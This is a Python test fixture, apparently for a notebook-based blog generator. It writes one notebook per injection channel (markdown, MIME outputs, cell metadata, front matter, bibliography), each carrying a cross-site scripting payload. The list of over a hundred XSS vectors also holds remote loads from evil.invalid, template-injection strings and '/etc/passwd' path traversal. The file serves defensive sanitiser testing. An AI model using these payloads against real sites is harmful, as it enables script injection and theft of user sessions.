"""A site of hostile notebooks: one post for each way to bring a script into a page."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from small_site import Site

MARK = 700_000
"""A script that runs says this number plus its own on the console: no quotes, no slashes."""

Node = dict[str, Any]


def md(source: str) -> Node:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def code(*outputs: Node, source: str = "1", **metadata: Any) -> Node:
    return {
        "cell_type": "code", "execution_count": 1, "metadata": metadata,
        "outputs": list(outputs), "source": source,
    }  # fmt: skip


def shown(mime: str, payload: Any, **metadata: Any) -> Node:
    return {"output_type": "display_data", "data": {mime: payload}, "metadata": metadata}


def with_plain(mime: str) -> Callable[[Any], list[Node]]:
    def cells(payload: Any) -> list[Node]:
        output = shown(mime, payload)
        output["data"]["text/plain"] = "plain"
        return [code(output)]

    return cells


def printed(text: str) -> Node:
    return {"output_type": "stream", "name": "stdout", "text": text}


def failed(text: str) -> Node:
    return {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}


def attached(name: str) -> list[Node]:
    cell = md(f"![a](attachment:{name})\n\n![b](<attachment:{name}>)")
    cell["attachments"] = {name: {"image/svg+xml": base64.b64encode(b"<svg/>").decode()}}
    return [cell]


CELLS: dict[str, Callable[[Any], list[Node]]] = {
    "markdown": lambda text: [md(text)],
    "heading": lambda text: [md(f"# Post\n\n## {text}\n\ntext\n\n## Next\n\n## Last")],
    "raw": lambda text: [{"cell_type": "raw", "metadata": {"format": "text/html"}, "source": text}],
    "code": lambda text: [code(source=text)],
    "alt": lambda text: [
        code(shown("image/png", PIXEL), source=f"#| fig-alt: {json.dumps(text)}\n#| fig-cap: {json.dumps(text)}\n1")
    ],
    "html": lambda text: [code(shown("text/html", text))],
    "svg": lambda text: [code(shown("image/svg+xml", text))],
    "latex": lambda text: [code(shown("text/latex", text))],
    "markdown output": lambda text: [code(shown("text/markdown", text))],
    "plain": lambda text: [code(shown("text/plain", text))],
    "javascript": with_plain("application/javascript"),
    "json": with_plain("application/json"),
    "plotly": with_plain("application/vnd.plotly.v1+json"),
    "vega": with_plain("application/vnd.vegalite.v5+json"),
    "bokeh": with_plain("application/vnd.bokehjs_exec.v0+json"),
    "widget": with_plain("application/vnd.jupyter.widget-view+json"),
    "mime name": lambda name: [code(shown(name, "text"))],
    "stream": lambda text: [code(printed(text))],
    "error": lambda text: [code(failed(text), tags=["raises-exception"])],
    "cell id": lambda text: [{**code(printed("x")), "id": text}],
    "cell tag": lambda text: [code(printed("x"), tags=[text])],
    "cell metadata": lambda text: [code(printed("x"), name=text, title=text, label=text)],
    "output metadata": lambda text: [
        code(shown("image/png", PIXEL, **{"image/png": {"width": text, "alt": text}}))
    ],
    "attachment": attached,
}  # fmt: skip

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
)
SVG = "http://www.w3.org/2000/svg"

VECTORS: list[tuple[str, str]] = [
    # Markdown: raw HTML
    ("markdown", "<script>JS</script>"),
    ("markdown", "text <script>JS</script> text"),
    ("markdown", '<img src="x" onerror="JS">'),
    ("markdown", "<img/src='x'/onerror=JS>"),
    ("markdown", "<svg onload=JS>"),
    ("markdown", "<svg><script>JS</script></svg>"),
    ("markdown", "<svg><animate onbegin=JS attributeName=x dur=1s></svg>"),
    ("markdown", '<svg><a xlink:href="javascript:JS"><text y="20">click</text></a></svg>'),
    ("markdown", '<svg><a><set attributeName="href" to="javascript:JS"/><text y="9">s</text></a></svg>'),
    ("markdown", '<svg><use href="data:image/svg+xml,<svg id=x onload=JS></svg>#x"/></svg>'),
    ("markdown", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=JS>'>"),
    ("markdown", '<math><maction actiontype="statusline" xlink:href="javascript:JS">click</maction></math>'),
    ("markdown", '<math href="javascript:JS"><mtext>click</mtext></math>'),
    ("markdown", "<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">"),
    ("markdown", "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>"),
    ("markdown", "<template><img src=x onerror=JS></template>"),
    ("markdown", "<textarea autofocus onfocus=JS></textarea>"),
    ("markdown", "<input autofocus onfocus=JS>"),
    ("markdown", "<details open ontoggle=JS><summary>s</summary>t</details>"),
    ("markdown", "<video><source onerror=JS></video>"),
    ("markdown", "<video src=x onerror=JS></video>"),
    ("markdown", "<audio src=x onerror=JS></audio>"),
    ("markdown", "<body onload=JS>"),
    ("markdown", "<marquee onstart=JS>m</marquee>"),
    ("markdown", '<iframe src="javascript:JS"></iframe>'),
    ("markdown", '<iframe srcdoc="<script>JS</script>"></iframe>'),
    ("markdown", '<object data="javascript:JS"></object>'),
    ("markdown", '<object data="data:text/html,<script>JS</script>"></object>'),
    ("markdown", '<embed src="data:text/html,<script>JS</script>">'),
    ("markdown", '<form action="javascript:JS"><button>send</button></form>'),
    ("markdown", '<form id="f"></form><button form="f" formaction="javascript:JS">send</button>'),
    ("markdown", "<button onclick=JS>press</button>"),
    ("markdown", '<base href="http://evil.invalid/"><script src="x.js"></script>'),
    ("markdown", '<meta http-equiv="refresh" content="0;url=javascript:JS">'),
    ("markdown", '<link rel="stylesheet" href="http://evil.invalid/x.css" onload=JS onerror=JS>'),
    ("markdown", '<link rel="import" href="data:text/html,<script>JS</script>">'),
    ("markdown", "<style>@import 'http://evil.invalid/x.css'; body {background: url(http://evil.invalid/y)}</style>"),
    ("markdown", '<div style="position:fixed;inset:0;z-index:9;background:url(http://evil.invalid/z)">over</div>'),
    ("markdown", "<p onmouseover=JS>hover</p>"),
    ("markdown", "<p tabindex=1 onfocus=JS autofocus>focus</p>"),
    ("markdown", '<p style="animation: x 1s" onanimationstart=JS>a</p><style>@keyframes x{}</style>'),
    ("markdown", "<!--><script>JS</script>-->"),
    ("markdown", "<!-- --!><script>JS</script> -->"),
    ("markdown", "<![CDATA[><script>JS</script>]]>"),
    ("markdown", "<?x ><script>JS</script>?>"),
    ("markdown", "<x\x00><scr\x00ipt>JS</scr\x00ipt>"),
    ("markdown", "<<script>script>JS<</script>/script>"),
    ("markdown", "<plaintext><script>JS</script>"),
    ("markdown", "<xmp><p title=\"</xmp><img src=x onerror=JS>\">"),
    ("markdown", "<img src=x srcset='x 1x, http://evil.invalid/s 2x' onerror=JS>"),
    ("markdown", '<img src="\\\\evil.invalid/a"><img src="/\\evil.invalid/b"><img src="/&Tab;/evil.invalid/c">'),
    ("markdown", "<a href=\"javas&#99;ript:JS\">entity</a>"),
    ("markdown", "<a href=\"java&#x0a;script:JS\">newline</a>"),
    ("markdown", "<a href=\"&#1;javascript:JS\">control</a>"),
    ("markdown", "<a href=\" javascript&colon;JS\">colon</a>"),
    ("markdown", '<a href="data:text/html,<script>JS</script>">data</a>'),
    ("markdown", '<a href="vbscript:JS">vb</a>'),
    ("markdown", '<a href="x" ping="http://evil.invalid/p" target="_top" onclick=JS>ping</a>'),
    ("markdown", '<a id="copy-button"></a><img name="fonts" id="fonts"><form name="body">'),
    ("markdown", '<div class="site-header skip theme-toggle" id="main">frame</div>'),
    ("markdown", '<a class="remote" data-remote="frame" href="javascript:JS">load</a>'),
    ("markdown", '<a class="remote" data-remote="picture" href="data:text/html,<script>JS</script>">l</a>'),
    # Markdown: its own syntax
    ("markdown", "[click](javascript:JS)"),
    ("markdown", "[click](<java\nscript:JS>) [click](JaVaScRiPt:JS) [c](\x01javascript:JS)"),
    ("markdown", "[click](data:text/html;base64,PHNjcmlwdD4=) <javascript:JS>"),
    ("markdown", "[a]: javascript:JS \"t\"\n\n[a] and [click][a]"),
    ("markdown", '[click](x "t\\" onclick=JS y=\\"")'),
    ("markdown", '![alt" onerror=JS x="](x.png)'),
    ("markdown", "![x](javascript:JS) ![y](\"onerror=JS//)"),
    ("markdown", "*x*{#i onclick=JS} `y`{onclick=JS} [z](q){onclick=JS .c}"),
    ("markdown", "{#i onclick=JS style=position:fixed}\nparagraph"),
    ("markdown", '```python" onmouseover="JS\nx\n```\n\n```{"><script>JS</script>}\ny\n```'),
    ("markdown", "x[^1]\n\n[^1]: <script>JS</script><img src=x onerror=JS>"),
    ("markdown", "| a |\n|---|\n| <img src=x onerror=JS> |"),
    ("markdown", "> [!NOTE]\n> <script>JS</script><img src=x onerror=JS>"),
    ("markdown", "term\n: <img src=x onerror=JS>"),
    ("markdown", "- [ ] <img src=x onerror=JS>"),
    ("markdown", "$\\href{javascript:JS}{x}$ $\\text{<img src=x onerror=JS>}$ $\\class{\" onclick=JS}{x}$"),
    ("markdown", "$$\\begin{array}{c}<img src=x onerror=JS>\\end{array}$$ (\"onclick=JS)"),
    ("markdown", "$$\nx\n$$ {#eq\"onclick=JS}\n\n$\\color{red;background:url(http://evil.invalid/m)}x$"),
    ("markdown", "{{ 1234*1001 }} {% include '/etc/passwd' %} {{ self.__init__ }} <script>JS</script>"),
    ("markdown", "\u2028<script>JS</script>\u2029"),
    ("heading", "<img src=x onerror=JS> {#x\"onclick=JS}"),
    ("heading", '" onmouseover=JS x="'),
    ("heading", "[a](javascript:JS) <script>JS</script> location"),
    ("raw", "<script>JS</script><img src=x onerror=JS>"),
    ("code", "</code></pre><script>JS</script>"),
    ("code", "#@title <img src=x onerror=JS>\n#| code-fold: <script>JS</script>\nx = '</script><script>JS</script>'"),
    ("alt", '"><img src=x onerror=JS><script>JS</script>'),
    ("alt", "[c](javascript:JS) <img src=x onerror=JS> ![r](http://evil.invalid/cap.png)"),
    # each MIME type
    ("html", "<script>JS</script>"),
    ("html", "<div><img src=x onerror=JS></div></div></div></div></main></body>"),
    ("html", "<table border=1><tr><td onclick=JS><script>JS</script></table>"),
    ("html", '<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>'),
    ("html", '<script src="http://evil.invalid/lib.js"></script><iframe src="http://evil.invalid/f"></iframe>'),
    ("html", '<img src="http://evil.invalid/pixel.png"><video poster="http://evil.invalid/p"></video>'),
    ("html", "</div><style>*{background:url(http://evil.invalid/css)}</style>"),
    ("html", '<a href="javascript:JS">j</a><area href="javascript:JS"><map name=m></map>'),
    ("html", '<script type="module">JS</script><script type="text/x-require">JS</script>'),
    ("svg", f'<svg xmlns="{SVG}" width="9" height="9"><script>JS</script></svg>'),
    ("svg", f'<svg xmlns="{SVG}" width="9" height="9" onload="JS"><rect width="9" height="9"/></svg>'),
    ("svg", f'<svg xmlns="{SVG}" width="9" height="9"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="JS"/></foreignObject></svg>'),
    ("svg", f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>JS</script>">]><svg xmlns="{SVG}" width="9" height="9">&x;</svg>'),
    ("svg", f'<svg xmlns="{SVG}" width="9" height="9"><a href="javascript:JS"><rect width="9" height="9"/></a><image href="http://evil.invalid/i"/></svg>'),
    ("latex", r"\href{javascript:JS}{x} </div><script>JS</script>"),
    ("latex", "$$ </code><img src=x onerror=JS> $$"),
    ("markdown output", "<script>JS</script> [c](javascript:JS) <img src=x onerror=JS>"),
    ("plain", "<script>JS</script>\x1b]8;;javascript:JS\x07link\x1b]8;;\x07"),
    ("javascript", "JS"),
    ("javascript", "element.innerHTML = '<img src=x onerror=JS>'; JS"),
    ("json", {"<img src=x onerror=JS>": "</script><script>JS</script>"}),
    ("plotly", {"data": [{"type": "scatter", "x": [1], "y": [2], "text": "<a href='javascript:JS'>x</a>"}],
                "layout": {"title": "</script><script>JS</script><img src=x onerror=JS>"}}),
    ("vega", {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "mark": "bar",
              "description": "</script><script>JS</script>", "usermeta": {"embedOptions": {"loader": {}}},
              "data": {"url": "http://evil.invalid/data.json"}, "encoding": {}}),
    ("bokeh", "</script><script>JS</script>"),
    ("widget", {"model_id": "</script><script>JS</script>\"onclick=JS", "version_major": 2}),
    ("mime name", 'text/html"><script>JS</script>'),
    ("stream", "<script>JS</script>\x1b]8;;javascript:JS\x1b\\link\x1b]8;;\x1b\\"),
    ("stream", '\x1b[38;2;1;2;3m"><img src=x onerror=JS>\x1b[0m'),
    ("error", "<script>JS</script><img src=x onerror=JS>"),
    # names and metadata
    ("cell id", 'a"onclick=JS><script>JS</script>'),
    ("cell tag", '"><script>JS</script>'),
    ("cell metadata", '"><script>JS</script><img src=x onerror=JS>'),
    ("output metadata", '1" onerror="JS'),
    ("attachment", 'a"onerror="JS".svg'),
    ("attachment", "../../../../etc/passwd"),
    ("kernel", '"><script>JS</script>'),
    ("language", 'python" onmouseover="JS'),
    ("language", "python site-header\"><script>JS</script>"),
    ("file name", '"><img src=x onerror=JS>'),
    ("file name", "{{1234*1001}} #? %2e%2e%2f ' onload=JS"),
    # front matter
    ("title", "<script>JS</script><img src=x onerror=JS>"),
    ("title", "[c](javascript:JS) </title><script>JS</script> ![r](http://evil.invalid/title.png)"),
    ("summary", '"><script>JS</script><img src=x onerror=JS>'),
    ("description", '"><script>JS</script></script><img src=x onerror=JS>'),
    ("tags", '"><script>JS</script>'),
    ("authors", '<img src=x onerror=JS>"><script>JS</script>'),
    ("license", "[c](javascript:JS) <script>JS</script> ![r](http://evil.invalid/licence.png)"),
    ("slug", '../../"><script>JS</script>'),
    ("macros", '{\\text{<img src=x onerror=JS>}}'),
    ("seal", '"><script>JS</script>'),
]  # fmt: skip


def filled(payload: Any, number: int) -> Any:
    """Return a payload with the script that tells its number."""
    text = json.dumps(payload).replace("JS", f"console.log({MARK + number})")
    return json.loads(text)


def notebook(number: int, channel: str, payload: Any) -> tuple[str, str]:
    """Return file name and text of a notebook that carries one payload."""
    name = f"2026-01-01-vector-{number}"
    metadata: Node = {
        "kernelspec": {"name": "python3", "display_name": "Python"},
        "language_info": {"name": "python"},
    }
    front: Node = {}
    cells = [md("# Post"), code(source="print(1)")]
    match channel:
        case "kernel":
            metadata["kernelspec"] = {"name": payload, "display_name": payload, "language": payload}
        case "language":
            metadata["language_info"] = {"name": payload, "file_extension": payload}
        case "file name":
            name += payload
            cells = [md("text")]
        case "tags" | "authors":
            front[channel] = [payload]
        case "macros":
            front["macros"] = {"\\evil": payload}
            cells = [md("$\\evil$")]
        case "seal":
            seal = {"sealed": "2026-01-01", "code": [], "outputs": [], "device": payload}
            metadata["nbblog_outputs"] = {**seal, "versions": {payload: payload}}
            cells = [code(printed("x"))]
        case "title" | "summary" | "description" | "license" | "slug":
            front[channel] = f"{payload}-{number}" if channel == "slug" else payload
        case _:
            cells = CELLS[channel](payload)
    front.setdefault("slug", f"vector-{number}")
    metadata["nbblog"] = {**front, "execute": "stored"}
    cells = [{"id": f"c{place}", **cell} for place, cell in enumerate(cells, start=1)]
    node = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    return f"{name}.ipynb", json.dumps(node)


BIBLIOGRAPHY = """@article{evil-onclick,
  title = {<script>JS</script> <img src=x onerror=JS> {{1234*1001}}},
  author = {Evil, <script>JS</script>},
  journal = {</script><img src=x onerror=JS>},
  abstract = {<script>JS</script> [c](javascript:JS)},
  year = 2026,
}
""".replace("JS", f"console.log({MARK + 999})")

RULES = {  # what the vectors break on purpose
    "picture-exists": "off", "link-exists": "off", "formulas-parse": "off", "outputs-shown": "off",
    "stored-current": "off", "no-remote-pictures": "off", "cell-options": "off",
}  # fmt: skip


def hostile_site(site: Site, settings: str) -> None:
    """Write the site; settings are further lines for the top of nbblog.toml."""
    tables = '[site]\ntitle = "Ada"\nbase_url = "https://ada.example"\n[rules]\n'
    from nbblog.rules import RULES as KNOWN

    rules = "".join(f'{name} = "{level}"\n' for name, level in RULES.items() if name in KNOWN)
    site.write("nbblog.toml", f"{settings}\n{tables}{rules}")
    site.write("publications.bib", BIBLIOGRAPHY)
    for number, (channel, payload) in enumerate(VECTORS, start=1):
        name, text = notebook(number, channel, filled(payload, number))
        site.write(f"notebooks/{name}", text)
